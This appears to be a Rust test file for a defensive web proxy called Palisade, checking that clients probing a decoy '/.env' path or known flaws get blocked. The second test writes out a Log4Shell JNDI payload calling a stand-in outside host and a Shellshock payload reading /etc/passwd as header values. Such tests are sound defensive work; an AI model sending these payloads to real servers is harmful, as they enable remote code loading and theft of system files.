//! Who looks for what nobody honest looks for is stopped, before the real program.

use crate::support::{Palisade, call, call_with, shop, text};

#[test]
fn who_touches_a_decoy_is_let_see_nothing_more() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let status = |target: &str| call(palisade.address, "GET", target, "").status;
    assert_ne!(status("/api/v1/products"), 403, "an honest page");
    assert_eq!(status("/.env"), 403);
    let refused = call(palisade.address, "GET", "/api/v1/products", "");
    assert_eq!(refused.status, 403, "and every page after it");
    let event = refused.header("palisade-event").expect("an event");
    let why = text(&palisade.command(&["why", event]).stdout);
    assert!(why.contains("no page links to"), "{why}");
    assert!(upstream.got().iter().all(|got| got.target != "/.env"));
}

#[test]
fn the_second_known_flaw_that_is_probed_for_blocks() {
    let (upstream, data) = (shop(), tempfile::tempdir().expect("a folder"));
    let palisade = Palisade::run(&upstream, data.path(), &["--mode", "enforce"]);
    let page = || call(palisade.address, "GET", "/api/v1/products", "").status;
    let log4j = [("User-Agent", "${jndi:ldap://203.0.113.9/a}")];
    assert_eq!(call_with(palisade.address, "GET", "/search", &log4j, "").status, 403);
    assert_ne!(page(), 403, "one may be a mistake");
    let bash = [("User-Agent", "() { :;}; /bin/cat /etc/passwd")];
    assert_eq!(call_with(palisade.address, "GET", "/cgi-bin/status", &bash, "").status, 403);
    assert_eq!(page(), 403, "two are none");
}
